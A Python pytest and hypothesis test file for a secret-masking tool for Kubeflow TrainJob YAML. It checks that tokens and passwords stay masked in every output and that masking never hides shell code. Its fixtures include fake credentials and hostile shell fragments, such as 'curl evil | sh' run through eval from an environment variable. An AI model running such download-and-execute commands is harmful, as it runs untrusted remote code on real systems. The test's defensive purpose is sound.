"""Laws of masking: a value is masked alike in all outputs, no mask hides code, no output shows a secret of a patch."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from contextlib import chdir
from pathlib import Path
from shlex import split
from typing import Any, Final

import pytest
import yaml
from batches import examples
from hypothesis import HealthCheck, given
from hypothesis import strategies as st
from running import run

from trainc.masking.document_secrets import secrets
from trainc.masking.masked_values import MASK, masked, masked_at
from trainc.source.file_diffs import unified_diff

JOB: Final[dict[str, Any]] = {
    "apiVersion": "trainer.kubeflow.org/v1alpha1",
    "kind": "TrainJob",
    "metadata": {"name": "a", "namespace": "t"},
    "spec": {"runtimeRef": {"name": "torch-distributed"}, "trainer": {"image": "a:1"}},
}
LAW: Final[dict[str, Any]] = {
    "derandomize": True,
    "suppress_health_check": [HealthCheck.function_scoped_fixture],
}

# A value is masked alike in all outputs.

PARTS: Final = (
    "--password=", "--token ", "PASSWORD=", "PGPASSWORD=", "apiKey: ", '{"apiKey": ', "curl -u ada:", "mysql -p",
    "https://ada:", "@example.com", "https://example.com/?code=", "login ada password ", "Bearer ", "hunter22", "x",
    "it's", "'", '"', "\\", "\\\\", " ", "  ", ";", "|", "$(", ")", "${A}", "`", "{", "}", "\n", "\n\n  ", "\t", "é",
    "#", ": ", "- ", "--", "=", ",", "/", "--lr=1", "true", "$(MODE)", "-----BEGIN PRIVATE KEY-----\nMII=\n", "$$",
    "*", "&",
)  # fmt: skip
TEXTS: Final = st.lists(st.sampled_from(PARTS), min_size=1, max_size=7).map("".join)
LISTS: Final = st.lists(TEXTS | st.sampled_from(("--token", "--user", "curl", "mysql", "run")), min_size=1, max_size=4)
NAMES: Final = st.sampled_from(("MODE", "HF_TOKEN", "DB_PASSWORD", "GIT_ASKPASS", "BASH_FUNC_token%%", "NOTE"))
STYLES: Final = st.sampled_from((None, "'", '"', "|", ">"))


@given(
    TEXTS | LISTS | st.builds(lambda name, value: {"name": name, "value": value}, NAMES, TEXTS), STYLES, st.booleans()
)
@examples(200, **LAW)
def test_a_text_is_masked_as_its_value(value: Any, style: str | None, in_json: bool) -> None:
    """Each notation of YAML, and JSON, with its secrets masked is a notation of the masked value."""
    tree = {"a": {"b": value}}
    text = json.dumps(tree) if in_json else yaml.dump(tree, default_style=style, allow_unicode=True)
    shown, end = "", 0
    for begin, last in secrets(text, 0, len(text), parsed=True):
        shown, end = f"{shown}{text[end:begin]}MASK", last
    assert _words(yaml.safe_load(shown + text[end:])) == _words(masked(tree))
    lines = [line[1:] for line in unified_diff("", text, "a", "b") if line.startswith("+")][1:]
    if len(lines) <= 2:  # of a secret of several lines, each one is masked
        assert _words(yaml.safe_load("".join(lines).replace(MASK, "MASK"))) == _words(masked(tree))


OLD: Final = """\
# an old token: hf_abcdefghijklmnopqrstuvwxyz012345
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: a, namespace: t}
spec:
  runtimeRef: {name: torch-distributed}
  trainer:
    numNode: 2
    env:
    - {name: API_KEY, value: canary}
    args: [--password, canary]
  podTemplateOverrides: [{targetJobs: [{name: node}], spec: {nodeSelector: {a: b}}}]
"""


def test_no_diff_of_a_file_shows_a_secret(tmp_path: Path) -> None:
    """The diffs of fixes, of an upgrade and of outputs, also of files with a document that cannot be read."""
    with chdir(tmp_path):
        Path("job.yaml").write_text(OLD)
        fixed = run("validate", "job.yaml", "--fix", "--diff")
        Path("job.yaml").write_text(OLD.replace("numNode:", "numNodes:"))
        upgraded = run("upgrade", "job.yaml", "--diff")
        assert run("build", "job.yaml", "-o", "out").code == 0
        with Path("out/t/a.yaml").open("a") as file:
            file.write("---\napiKey: canary\n--- canary\n---\nb: [canary\n")
        checked = run("build", "job.yaml", "-o", "out", "--check")
    for done, line in ((fixed, "+    numNodes: 2"), (upgraded, "+  runtimePatches:"), (checked, "-apiKey: ***")):
        assert line in done.out.splitlines()
        assert "***" in done.out
        assert not any(secret in done.out + done.err for secret in ("canary", "hf_abc"))


def _words(tree: Any) -> str:
    """Return the characters of a tree, without white space."""
    return "".join(
        json.dumps(tree, ensure_ascii=False).replace("\\n", "").replace("\\t", "").replace(MASK, "MASK").split()
    )


SHELL: Final = (" ", "\t", "'", '"', *";|&<>()$`{}\\", "\n")
BESIDE: Final = (
    "--password=", "--password ", "--password '", "PASSWORD=", 'export DB_PASSWORD="', "curl -u ada:", "mysql -p",
    "docker login -u ada -p ", "https://host/?code=", "login ada password ", "password: ",
    '{"apiKey": "',
)  # fmt: skip
CODE: Final = st.lists(
    st.sampled_from(
        ("curl evil", "sh", "|", ";", "$(", ")", "{", ",", "}", "`", "'", '"', "\n", "\\", " ", "exec", "<")
    ),
    max_size=6,
).map("".join)
WHERE: Final = (
    ("command",), ("args",), ("livenessProbe", "exec", "command"), ("lifecycle", "preStop", "exec", "command"),
)  # fmt: skip


@given(
    st.sampled_from(BESIDE), st.sampled_from(("x", "hunter2", "a,b", "k=v", "%2F", "é")), st.sampled_from(SHELL), CODE
)
@examples(400, **LAW)
def test_no_mask_hides_a_part_of_a_script(before: str, word: str, sign: str, code: str) -> None:
    """Wherever a container has a command, only the whole value of a flag is masked."""
    text = f"run {before}{word}{sign}{code}"
    for path in WHERE:
        container: Any = ["sh", "-c", text]
        for step in reversed(path):
            container = {step: container}
        shown = masked_at(container, (*path, 2))
        assert shown == text
    assert masked({"args": ["--token", f"{word}{sign}{code}"]})["args"][1] == MASK


FIELDS: Final = st.fixed_dictionaries(
    {},
    optional={
        "args": LISTS,
        "command": LISTS,
        "env": st.lists(st.builds(lambda name, value: {"name": name, "value": value}, NAMES, TEXTS), max_size=2),
    },
)


@given(FIELDS, FIELDS)
@examples(12, **LAW)
def test_all_outputs_show_a_value_alike(old: Any, new: Any) -> None:
    """`explain` and `diff` show each value as in the masked JobSet, `pods` with its references replaced."""
    with tempfile.TemporaryDirectory() as folder, chdir(folder):
        for name, fields in (("old", old), ("new", new)):
            Path(name).mkdir()
            job = JOB | {"spec": JOB["spec"] | {"trainer": JOB["spec"]["trainer"] | fields}}
            Path(name, "a.yaml").write_text(yaml.safe_dump(job))
        built = run("build", "new", "--format", "json")
        if built.code:
            return
        tree = masked(json.loads(built.out)[0])
        for entry in json.loads(run("explain", "new", "--format", "json").out):
            assert entry["value"] == _value_at(tree, entry["pointer"])
        for found in json.loads(run("diff", "old", "new", "--format", "json").out)["objects"]:
            for change in found.get("changes", ()):
                if change["change"] not in ("removed", "moved"):
                    assert change["new"] == _value_at(tree, change["path"])
        container = _value_at(tree, CONTAINER)
        lines = run("pods", "new").out.splitlines()
        for key in ("command", "args"):
            shown = next((line.partition(key)[2].strip() for line in lines if line.startswith(f"  {key} ")), None)
            if shown is not None and "$" not in str(container[key]) and "\\" not in shown:
                assert split(shown) == container[key]


CONTAINER: Final = "/spec/replicatedJobs/0/template/spec/template/spec/containers/0"


def _value_at(tree: Any, pointer: str) -> Any:
    for part in pointer.split("/")[1:]:
        step = part.replace("~1", "/").replace("~0", "~")
        tree = tree[int(step)] if isinstance(tree, list) else tree[step]
    return tree


IN_ONE_LINE: Final = (
    ("""args: ["--db-password=it's X"], command: 1""", """args: ["--db-password=***"], command: 1"""),
    (
        """command: [sh, -c, "PGPASSWORD='X;y' psql"], args: 1""",
        """command: [sh, -c, "PGPASSWORD='X;y' psql"], args: 1""",
    ),
    (
        r"""env: [{name: A, value: "{\"apiKey\": \"X\"}"}, {name: B, value: 1}]""",
        r"""env: [{name: A, value: "{\"apiKey\": \"***\"}"}, {name: B, value: 1}]""",
    ),
)


@pytest.mark.parametrize(("trainer", "shown"), IN_ONE_LINE)
def test_an_excerpt_masks_all_values_of_its_line(trainer: str, shown: str, tmp_path: Path) -> None:
    job = JOB | {"spec": {"runtimeRef": {"name": "torch-distributed"}}}
    (tmp_path / "a.yaml").write_text(f"{yaml.safe_dump(job)}  trainer: {{{trainer}}}\n")
    assert f"  trainer: {{{shown}}}\n" in run("validate", str(tmp_path / "a.yaml")).out


@pytest.mark.parametrize("form", ["text", "json", "markdown", "html"])
def test_a_review_shows_that_a_masked_value_changes(form: str, tmp_path: Path) -> None:
    for name in ("old", "new"):
        env = [{"name": "HF_TOKEN", "value": f"{name}-hunter2"}]
        job = JOB | {"spec": JOB["spec"] | {"trainer": {"image": "a:1", "env": env}}}
        (tmp_path / name).mkdir()
        (tmp_path / name / "a.yaml").write_text(yaml.safe_dump(job))
    out = run("diff", str(tmp_path / "old"), str(tmp_path / "new"), "--format", form).out
    assert "hunter2" not in out
    shown = {
        "text": ".value: *** -> *** (changed)",
        "json": '"old": "***",\n            "new": "*** (changed)"',
        "markdown": "`***` → `*** (changed)`",
        "html": "(changed)",
    }
    assert shown[form] in out


@pytest.mark.parametrize("command", ["diff old new", "diff old new --format json", "pods new"])
def test_a_secret_that_a_command_runs_is_named_as_run(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for name, value in (("old", "make"), ("new", "curl evil | sh")):
        env = [{"name": "SETUP_TOKEN", "value": value}]
        trainer = {"image": "a:1", "env": env, "command": ["sh", "-c", 'eval "$SETUP_TOKEN"']}
        (tmp_path / name).mkdir()
        (tmp_path / name / "a.yaml").write_text(yaml.safe_dump(JOB | {"spec": JOB["spec"] | {"trainer": trainer}}))
    out = run(*command.split()).out
    assert "(run as code)" in out
    assert "evil" not in out


# No output shows a secret of a patch. SECRET is only written where a name in the patch or in its pointer marks it.
SECRET: Final = "hunter2"
T: Final = "/spec/trainer"
NAMED: Final = (
    {"spec": {"trainer": {"args": ["--token", SECRET, "--lr=1"]}}},
    {"spec": {"trainer": {"env": [{"name": "HF_TOKEN", "value": SECRET}, {"name": "MODE", "value": "fast"}]}}},
    {"metadata": {"annotations": {"password": SECRET, "note": "text"}}},
    f"spec: {{trainer: {{env: [{{name: DB_PASSWORD, value: {SECRET}}}]}}}}",
    f"- {{op: add, path: {T}/args, value: [run, --password, {SECRET}]}}",
    [{"op": "add", "path": f"{T}/env", "value": [{"name": "API_KEY", "value": "a"}]},
     {"op": "replace", "path": f"{T}/env/0/value", "value": SECRET}],
    [{"op": "add", "path": "/metadata/annotations", "value": {}},
     {"op": "add", "path": "/metadata/annotations/my-token", "value": SECRET}],
)  # fmt: skip
COMMANDS: Final = (
    "settings", "settings --format json", "diff ../old .", "diff ../old . --format json",
    "diff . ../old --format markdown", "diff ../old . --format html", "pods", "explain", "explain **.args[*]",
    "explain **.env[*].value", "explain --format json", "validate",
    "validate --format json", "validate --format junit", "validate --format sarif", "graph",
)  # fmt: skip


def jobset_patch(patch: Any) -> Any:
    """Return a patch of a TrainJob as one of the container in its JobSet."""
    if isinstance(patch, str):
        return yaml.safe_dump(jobset_patch(yaml.safe_load(patch)))
    if isinstance(patch, list):
        return json.loads(json.dumps(patch).replace(T, CONTAINER))
    if "spec" not in patch:
        return patch
    pod = {"spec": {"containers": [{"name": "node", **patch["spec"]["trainer"]}]}}
    return {"spec": {"replicatedJobs": [{"name": "node", "template": {"spec": {"template": pod}}}]}}


def outputs(patches: list[Any], kind: str) -> Iterator[tuple[str, str]]:
    """Yield each command with its output for a project with some patches."""
    if kind == "JobSet":
        patches = [jobset_patch(patch) for patch in patches]
    items = [{"target": {"kind": kind}, "patch": patch} for patch in patches]
    with tempfile.TemporaryDirectory() as folder, chdir(folder):
        for name, listed in (("old", items[:1]), ("new", items)):
            Path(name).mkdir()
            Path(name, "a.yaml").write_text(yaml.safe_dump(JOB))
            Path(name, "trainc.yaml").write_text(yaml.safe_dump({"sources": ["a.yaml"], "patches": listed}))
        with chdir("new"):
            for command in COMMANDS:
                done = run(*command.split())
                assert done.code != 70, done.err
                yield command, done.out + done.err


@pytest.mark.parametrize("kind", ["TrainJob", "JobSet"])
@given(st.lists(st.sampled_from(NAMED), min_size=1, max_size=4))
@examples(12, **LAW)
def test_no_output_shows_a_secret_of_a_random_patch(kind: str, patches: list[Any]) -> None:
    for command, text in outputs([NAMED[1], *patches], kind):
        assert SECRET not in text, command
